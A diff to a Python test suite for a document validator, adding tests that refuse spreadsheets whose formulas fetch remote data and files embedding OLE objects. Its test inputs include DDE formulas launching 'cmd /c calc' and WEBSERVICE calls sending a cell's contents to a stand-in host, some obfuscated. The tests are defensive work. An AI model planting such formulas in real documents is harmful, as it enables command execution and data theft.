@@ -169,6 +169,9 @@ def test_folders_of_scripts_are_found_anywhere_in_the_archive_and_in_its_manifes
         '<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/>',
         "<text:dde-connection-decls><text:dde-connection-decl/></text:dde-connection-decls>",
         '<table:table-cell table:formula="of:=1+dde (&quot;cmd&quot;;&quot;/c calc&quot;)"/>',
+        '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://elsewhere.example/&quot;)"/>',
+        '<table:named-expression table:expression="of:=WEBSERVICE(&quot;http://elsewhere.example/&quot;)"/>',
+        '<table:content-validation table:condition="of:cell-content()=webservice(&quot;x&quot;)"/>',
     ],
 )
 def test_an_opendocument_file_that_asks_other_programs_for_data_is_refused(body: str):
@@ -285,6 +288,79 @@ def test_a_workbook_that_asks_other_programs_for_data_is_refused(kind: str, body
     parts = office_parts("xlsx") | {"xl/_rels/workbook.xml.rels": relationships((kind, "a/x.xml"))}
     assert result_of(archive(parts | {"xl/a/x.xml": body}), "xlsx") == DATA
     assert result_of(archive(parts | {"xl/a/x.xml": "<connections/>"}), "xlsx") == accepted_as("xlsx")
+
+
+WORKBOOK = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+FETCHING = [
+    '_xlfn.WEBSERVICE("http://elsewhere.example/?"&amp;A1)',
+    '1+web&#83;ervice ("http://elsewhere.example/")',
+    '_xlfn.IMAGE("http://elsewhere.example/x.png")',
+    'RTD("server",,"topic")',
+]
+SHEET = f"{OOXML}spreadsheetml.worksheet+xml"
+
+
+def sheet(formula: str) -> str:
+    return f'<worksheet xmlns="{WORKBOOK}"><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>'
+
+
+def xlsx(name: str, part: str, *, kind: str = "worksheet", content_type: str = "") -> bytes:
+    """Return a workbook with one part more, known by its relationship, its content type, or both."""
+    main = {"xl__workbook_xml": f"{OOXML}{MAIN['xlsx'][1]}"}
+    more = {f"xl__{name.replace('.', '_')}": content_type} if content_type else {}
+    parts = office_parts("xlsx") | {f"xl/{name}": part, "[Content_Types].xml": content_types(**main, **more)}
+    return archive(parts | {"xl/_rels/workbook.xml.rels": relationships((kind, name))})
+
+
+@pytest.mark.parametrize("formula", FETCHING)
+def test_a_workbook_whose_formula_fetches_something_is_refused(formula: str):
+    names = f'<workbook xmlns="{WORKBOOK}"><definedNames><definedName>{formula}</definedName></definedNames></workbook>'
+    validation = f'<worksheet xmlns="{WORKBOOK}"><formula1>{formula}</formula1></worksheet>'
+    ways = [
+        xlsx("any.xml", sheet(formula)),
+        xlsx("any.xml", sheet(formula), kind="other", content_type=SHEET),
+        xlsx("any.xml", validation),
+        archive(office_parts("xlsx") | {"xl/workbook.xml": names}),
+    ]
+    assert [result_of(way, "xlsx") for way in ways] == [DATA] * 4
+    inner = f"A file inside this document is not accepted. {DATA}"
+    assert result_of(holding(ways[0], "word/embeddings/x.xlsx"), "docx") == inner
+
+
+def test_formulas_that_fetch_nothing_are_accepted():
+    """Words in a text are no function, and neither is a name that only ends like one."""
+    for formula in ("SUM(A1:A2)", '"see image (1)"', "MYRTD(A1)", 'HYPERLINK("https://lab.example/")'):
+        assert result_of(xlsx("any.xml", sheet(formula), content_type=SHEET), "xlsx") == accepted_as("xlsx")
+
+
+# --- objects of other programs ---------------------------------------------------------------------------------------
+
+OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"x" * 100
+
+
+@pytest.mark.parametrize("name", ["word/embeddings/oleObject1.bin", "word/media/image1.png"])
+def test_an_ole_object_is_refused_whatever_its_name(name: str):
+    assert result_of(archive(office_parts() | {name: OLE}), "docx") == UNKNOWN
+    assert result_of(archive(opendocument_parts("text") | {"Object 1": OLE}), "odt") == UNKNOWN
+    inner = archive(office_parts("xlsx") | {name: OLE})
+    assert result_of(holding(inner), "docx") == f"A file inside this document is not accepted. {UNKNOWN}"
+
+
+def test_an_object_of_another_program_is_refused_whatever_it_is_made_of():
+    native = archive(office_parts() | {"word/embeddings/x.bin": "x"})
+    assert result_of(native, "docx") == accepted_as("docx")
+    parts = office_parts() | {"word/embeddings/x.bin": "x"}
+    parts["word/_rels/document.xml.rels"] = relationships(("oleObject", "embeddings/x.bin"))
+    assert result_of(archive(parts), "docx") == UNKNOWN
+    typed = content_types(word__document_xml=f"{OOXML}{MAIN['docx'][1]}", word__embeddings__x_bin=f"{OOXML}oleObject")
+    assert result_of(
+        archive(office_parts() | {"[Content_Types].xml": typed, "word/embeddings/x.bin": "x"}), "docx"
+    ) == (UNKNOWN)
+
+
+def test_an_object_of_another_program_in_an_opendocument_file_is_refused():
+    bodies = ['<draw:object-ole xlink:href="./Object 1"/>', "<draw:object-ole><office:binary-data/></draw:object-ole>"]
+    assert [result_of(odt(body), "odt") for body in bodies] == [UNKNOWN, UNKNOWN]
 
 
 # --- documents inside a document -------------------------------------------------------------------------------------
